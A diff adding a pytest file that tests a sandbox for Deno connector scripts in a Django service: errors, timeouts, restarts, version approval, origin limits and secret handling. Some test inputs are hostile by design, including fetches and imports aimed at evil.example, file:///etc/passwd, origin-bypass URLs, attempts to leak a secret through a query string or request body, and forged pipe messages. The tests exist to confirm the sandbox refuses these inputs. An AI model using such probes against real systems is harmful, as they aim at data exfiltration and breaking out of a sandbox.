@@ -1,0 +1,416 @@
+"""Cases 77 and 79-88 of connectors by script: a script harms nobody but those who ask it."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from functools import partial
+from typing import Any
+
+import pytest
+from asgiref.sync import sync_to_async
+
+from msgnode.core.back_off import BackOff
+from msgnode.core.errors import BadGateway, GatewayTimeout, NodeError, Unavailable
+from msgnode.models import Connector
+from msgnode.sandbox import pipe, process
+from msgnode.sandbox.process import SandboxProcess
+from msgnode.scripts import service, store
+from msgnode.scripts.service import FAILED, LIVE, Port
+from msgnode.scripts.store import FAILED_ALARM
+from tests import waiting
+
+from .stage import SECONDS, needs_deno, place, script
+
+pytestmark = [needs_deno, pytest.mark.django_db(transaction=True)]
+
+ECHO = script("find: (what) => what")
+
+
+async def ask(port: Port, argument: Any = None, type_: Any = Any) -> Any:
+    async with asyncio.timeout(SECONDS):
+        return await port.call("find", argument, type_, is_read=True)
+
+
+async def test_a_call_has_its_value_or_the_refusal_of_the_script() -> None:
+    refusing = script("""find(what) {
+      if (what.code) throw Object.assign(new Error("no such thing"), { code: what.code });
+      return { got: what, ...config };
+    }""")
+    async with place(refusing, configuration={"a": 1}) as one:
+        assert await ask(one.port, {"x": [1]}) == {"got": {"x": [1]}, "a": 1}
+        with pytest.raises(NodeError) as refusal:
+            await ask(one.port, {"code": 404})
+        assert (refusal.value.code, refusal.value.description) == (404, "no such thing")
+        with pytest.raises(BadGateway) as failure:  # not a code with which it may refuse
+            await ask(one.port, {"code": 201})
+        assert "no such thing" not in str(failure.value), "that text is for the operator"
+        assert "no such thing" in one.port.last_error
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "throw 5",
+        "throw null",
+        "return 10n",
+        "const a = {}; a.a = a; return a",
+        "return 'x'.repeat(10_000_000)",
+        "return { toJSON() { throw new Error('no') } }",
+        "return 'no object'",
+    ],
+)
+async def test_case_79_what_is_no_result_is_502_and_an_alarm_the_third_time(body: str) -> None:
+    async with place(script(f"find(what) {{ if (what === 1) return {{}}; {body} }}")) as one:
+        for number in range(3):
+            assert await ask(one.port, 1, dict) == {}
+            assert not one.alarms.standing, number
+        for _ in range(3):
+            with pytest.raises(BadGateway):
+                await ask(one.port, 2, dict)
+        assert one.alarms.standing.keys() == {(FAILED_ALARM, "domain-registry")}
+        assert await ask(one.port, 1, dict) == {}, "and it goes on"
+        assert one.port.restarts == 0
+
+
+async def test_case_79_what_never_settles_is_504_and_delays_nobody(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(service, "CALL_SECONDS", 1.0)
+    source = script("""find(what, { signal }) {
+      if (what === "aborted") return globalThis.aborted ?? 0;
+      if (what) return what;
+      signal.addEventListener("abort", () => (globalThis.aborted = (globalThis.aborted ?? 0) + 1));
+      return new Promise(() => {});
+    }""")
+    async with place(source) as one:
+        never = [asyncio.ensure_future(ask(one.port)) for _ in range(20)]
+        assert [await ask(one.port, number) for number in range(1, 50)] == list(range(1, 50))
+        ends = await asyncio.gather(*never, return_exceptions=True)
+        assert {type(each) for each in ends} == {GatewayTimeout}
+        assert await ask(one.port, "aborted") == 20
+        assert one.port.script is not None
+        assert not one.port.script._calls
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "for (;;) {}",
+        "const all = []; for (;;) all.push(new Array(1e6).fill(1))",
+        "for (let n = 0; n < 1e6; n++) setInterval(() => { for (let i = 0; i < 1e4; i++); }, 0)",
+        "node.log('x'.repeat(2)); for (;;) fetch('https://evil.example/')",
+    ],
+)
+async def test_case_79_a_script_that_hangs_is_killed_and_searches_are_made_again(body: str) -> None:
+    source = script(f"""
+      register() {{ return new Promise(() => {{}}); }},
+      async find(what) {{
+        const seen = await node.store.get("seen");
+        if (seen) return "again";
+        await node.store.put("seen", "1");
+        {body};
+        return new Promise(() => {{}});
+      }}""")
+    async with place(source, limits={"silence": 1.5}) as one:
+        changing = asyncio.ensure_future(one.port.call("register", {}, Any))
+        assert await ask(one.port) == "again"
+        with pytest.raises(Unavailable):
+            await changing
+        assert one.port.restarts == 1
+        assert not one.alarms.standing
+
+
+def _has_ended(port: Port, times: int) -> bool:
+    return port.restarts == times
+
+
+async def test_case_83_one_that_ends_five_times_is_not_started_any_more(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    class AtOnce(BackOff):
+        def failed(self) -> float:
+            return 0.01
+
+    monkeypatch.setattr(service, "BackOff", AtOnce)
+    async with place(ECHO) as one:
+        other = one.scripts.ports["global-registry"]
+        await one.scripts.in_thread(
+            lambda: store.approve(
+                store.add("global-registry", store.checked(
+                    {"source": script("find: (what) => what", "global-registry")}
+                ), "a test"), "a test")
+        )  # fmt: skip
+        await one.read()
+        await waiting.so(lambda: other.state == LIVE)
+        for number in range(1, 6):
+            await waiting.so(lambda: one.port.script)
+            assert one.port.script is not None
+            one.port.script.kill("a test")
+            await waiting.so(partial(_has_ended, one.port, number))
+        assert one.port.state == FAILED
+        with pytest.raises(Unavailable, match="cannot be used"):
+            await ask(one.port)
+        assert "not started any more" in one.alarms.standing[FAILED_ALARM, "domain-registry"]
+        assert await ask(other, 5) == 5
+        await one.scripts._start_anew("domain-registry")
+        await one.live()
+        assert await ask(one.port, 6) == 6
+        assert not one.alarms.standing
+
+
+async def test_case_82_another_version_takes_over_and_all_calls_are_answered() -> None:
+    slow = script("find: (what) => new Promise((done) => setTimeout(() => done('old'), 500))")
+    async with place(slow) as one:
+        running = [asyncio.ensure_future(ask(one.port)) for _ in range(50)]
+        await asyncio.sleep(0)
+        old = one.port.script
+        await one.give(script("find: () => 'new'"))
+        assert await ask(one.port) == "new"
+        assert set(await asyncio.gather(*running)) == {"old"}
+        assert old is not None
+        await waiting.so(lambda: not old.sandbox.is_running)
+        assert one.port.restarts == 0
+
+
+@pytest.mark.parametrize(
+    ("source", "why"),
+    [
+        ("export default 5", "no function"),
+        ("export default () => ({})", "does not say"),
+        ("export default () => { throw new Error('not today') }", "not today"),
+        ("import x from 'https://evil.example/x.js'; export default x", "cannot be loaded"),
+        ("export default () => new Promise(() => {})", "not loaded within"),
+        (script("", "qos"), "it handles qos"),
+    ],
+)
+async def test_case_82_a_version_that_cannot_be_loaded_replaces_nothing(
+    source: str, why: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("msgnode.scripts.script.LOAD_SECONDS", 2.0)
+    async with place(ECHO) as one:
+        approved = (await sync_to_async(one.row)()).approved_digest
+        await one.give(source)
+        assert await ask(one.port, 7) == 7
+        assert why in one.port.last_error
+        assert one.alarms.standing
+        assert (await sync_to_async(one.row)()).approved_digest == approved
+
+
+async def test_case_87_a_minified_module_loads() -> None:
+    async with place(
+        'var a=()=>({handles:"domain-registry",find:a=>a});export{a as default};'
+    ) as one:
+        assert await ask(one.port, 1) == 1
+
+
+async def test_case_84_nothing_runs_that_was_not_approved() -> None:
+    async with place() as one:
+        row = await one.scripts.in_thread(
+            lambda: store.add("domain-registry", store.checked({"source": ECHO}), "a test")
+        )
+        await one.read()
+        assert not one.port.is_chosen
+        assert one.port.script is None
+        assert await one.scripts.in_thread(lambda: store.approve(row, "a test", "0000")) != ""
+        await one.give(ECHO)
+        await one.live()
+        await one.scripts.in_thread(lambda: store.decide(one.row(), Connector.Decision.PAUSED))
+        await one.read()
+        with pytest.raises(Unavailable, match="paused"):
+            await ask(one.port)
+        assert one.port.is_chosen, "nobody else is asked instead"
+        await one.scripts.in_thread(lambda: store.remove(one.row()))
+        await one.read()
+        await waiting.so(lambda: not one.port.is_chosen)
+
+
+async def test_any_other_part_of_a_version_needs_an_approval_of_its_own() -> None:
+    parts: dict[str, Any] = {"source": ECHO, "origins": ["https://a.example"]}
+    digests = {
+        store.digest_of(store.checked({**parts, **other}))
+        for other in (
+            {},
+            {"source": ECHO + " "},
+            {"configuration": {"a": 1}},
+            {"origins": ["https://a.example", "https://b.example"]},
+            {"secrets": {"key": "https://a.example"}},
+            {"secrets": {"key": "*"}},
+        )
+    }
+    assert len(digests) == 6
+
+
+async def test_case_88_without_deno_its_port_answers_503(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(process, "find_deno", lambda: "")
+    async with place() as one:
+        await one.give(ECHO)
+        await waiting.so(lambda: one.port.state == FAILED)
+        with pytest.raises(Unavailable, match="cannot be used"):
+            await ask(one.port)
+        assert "Deno is not installed" in one.alarms.standing[FAILED_ALARM, "domain-registry"]
+
+
+# --- what it asks of the node ---------------------------------------------------------------------
+
+FETCH = script("""async find({ url, ...how }) {
+  const { status, text } = await fetch(url, how).then(
+    async (answer) => ({ status: answer.status, text: await answer.text() }),
+    (error) => ({ status: 0, text: error.message }));
+  return [status, text.slice(0, 300)];
+}""")
+
+
+class Api:
+    """An HTTP server that a script asks; `heads` are what it got."""
+
+    def __init__(self) -> None:
+        self.heads: list[str] = []
+        self.base = ""
+        self.gate = asyncio.Event()
+        self.gate.set()
+
+    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        head = (await reader.readuntil(b"\r\n\r\n")).decode()
+        self.heads.append(head)
+        await self.gate.wait()
+        path = head.split()[1]
+        said = b"x" * (9 * 1024 * 1024) if path == "/large" else head.encode()
+        status = "302 Found\r\nLocation: http://127.0.0.1:9/" if path == "/away" else "200 OK"
+        writer.write(f"HTTP/1.1 {status}\r\nContent-Length: {len(said)}\r\n\r\n".encode() + said)
+        writer.close()
+
+
+@asynccontextmanager
+async def api() -> AsyncIterator[Api]:
+    one = Api()
+    server = await asyncio.start_server(one.serve, "127.0.0.1", 0)
+    one.base = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
+    try:
+        yield one
+    finally:
+        server.close()
+
+
+async def test_case_80_requests_go_to_its_origins_only() -> None:
+    async with api() as to:
+        named = to.base.replace("http://127.0.0.1", "https://localhost")
+        async with place(FETCH, origins=[to.base, named, "https://api.example"]) as one:
+
+            async def get(url: str, **how: Any) -> list[Any]:
+                return await ask(one.port, {"url": url, **how})
+
+            status, text = await get(f"{to.base}/a", headers={"Cookie": "a=b", "X-Own": "1"})
+            assert (status, "X-Own: 1" in text or "x-own: 1" in text) == (200, True)
+            assert "cookie" not in text.lower()
+            port = to.base.rpartition(":")[2]
+            refused = {
+                "https://evil.example/": "none of its origins",
+                f"http://127.0.0.1:{int(port) + 1}/": "none of its origins",
+                f"https://127.0.0.1:{port}/": "none of its origins",
+                f"http://a@127.0.0.1:{port}/": "none of its origins",
+                "http://[::ffff:127.0.0.1]/": "none of its origins",
+                f"{named}/": "does not connect to",  # a name that leads to a private address
+                f"{to.base}/away": "no redirect is followed",
+                f"{to.base}/large": "more than",
+                "file:///etc/passwd": "none of its origins",
+            }
+            for url, why in refused.items():
+                status, text = await get(url)
+                assert (status, why in text) == (0, True), (url, text)
+            assert len(to.heads) == 3
+            assert one.port.script is not None
+            assert one.port.script.refused == 7, one.port.script.refusals
+            to.gate.clear()
+            asked = [asyncio.ensure_future(get(f"{to.base}/{number}")) for number in range(11)]
+            first, _ = await asyncio.wait(asked, return_when=asyncio.FIRST_COMPLETED)
+            assert "requests under way" in first.pop().result()[1]
+            to.gate.set()
+            assert [status for status, _ in await asyncio.gather(*asked)].count(200) == 10
+
+
+async def test_case_81_a_secret_is_in_the_headers_for_its_origin_and_nowhere_else(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    lines: list[bytes] = []
+    read, send = pipe.read, SandboxProcess.send
+
+    def heard(line: bytes) -> pipe.Said:
+        lines.append(line)
+        return read(line)
+
+    def sent(self: SandboxProcess, line: bytes) -> None:
+        lines.append(line)
+        send(self, line)
+
+    monkeypatch.setattr(pipe, "read", heard)
+    monkeypatch.setattr(SandboxProcess, "send", sent)
+    source = script("""async find({ url, where }) {
+      const text = `Bearer ${node.secret(where === "shown" ? "shown" : "key")}`;
+      if (where === "shown") return text;
+      const how = where === "body" ? { method: "POST", body: text } : {};
+      if (where === "header") how.headers = { Authorization: text };
+      const answer = await fetch(url + (where === "url" ? `?k=${text}` : ""), how).catch((e) => e);
+      return answer.text ? await answer.text() : answer.message;
+    }""")
+    async with api() as to, api() as other:
+        parts: dict[str, Any] = {
+            "origins": [to.base, other.base],
+            "secrets": {"key": to.base, "shown": "*"},
+        }
+        values = {"key": "s3cr3t-value", "shown": "seen"}
+        async with place(source, **parts, values=values) as one:
+            said = await ask(one.port, {"url": f"{to.base}/a", "where": "header"})
+            assert "Bearer s3cr3t-value" in to.heads[0]
+            assert "Bearer (secret)" in said, "the other side has sent it back"
+            for url, where in ((to, "url"), (to, "body"), (other, "header")):
+                text = await ask(one.port, {"url": f"{url.base}/a", "where": where})
+                assert "secret" in text, (where, text)
+            assert (len(to.heads), other.heads) == (1, [])
+            assert await ask(one.port, {"where": "shown"}) == "Bearer seen"
+            shown = b"".join(lines) + json.dumps(service.figures_of(one.port)).encode()
+            assert b"s3cr3t-value" not in shown
+            sealed = await sync_to_async(
+                lambda: list(one.row().values.values_list("sealed", flat=True))
+            )()
+            assert not any("s3cr3t" in each for each in sealed)
+
+
+async def test_what_it_keeps_is_bounded_and_changed_by_one_at_a_time(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(store, "MAX_KEYS", 2)
+    source = script("""async find([action, ...rest]) {
+      return node.store[action](...rest).catch((error) => error.message);
+    }""")
+    async with place(source) as one:
+
+        async def kept(*words: Any) -> Any:
+            return await ask(one.port, words)
+
+        assert await kept("put", "a", "1", {"version": 0}) == {"version": 1}
+        assert "another version" in await kept("put", "a", "2", {"version": 0})
+        assert await kept("put", "a", "2", {"version": 1}) == {"version": 2}
+        assert await kept("get", "a") == {"value": "2", "version": 2}
+        await kept("put", "b", "1")
+        assert "as much as it may" in await kept("put", "c", "1")
+        assert await kept("list", "") == ["a", "b"]
+        assert await kept("delete", "a") is None
+        assert await kept("get", "a") is None
+
+
+async def test_case_79_forged_answers_change_nothing_and_are_counted() -> None:
+    async with place(ECHO) as one:
+        script_ = one.port.script
+        assert script_ is not None
+        for line in (
+            b'{"op":"result","n":77,"value":{}}',
+            b'{"op":"refused","n":78,"code":404,"desc":"no"}',
+            b'{"op":"message","message":{"type":"create"}}',
+            b'{"op":"ws-open","ws":1,"url":"wss://evil.example"}',
+        ):
+            script_._said(pipe.read(line))
+        assert script_.dropped == 2
+        assert await ask(one.port, 1) == 1
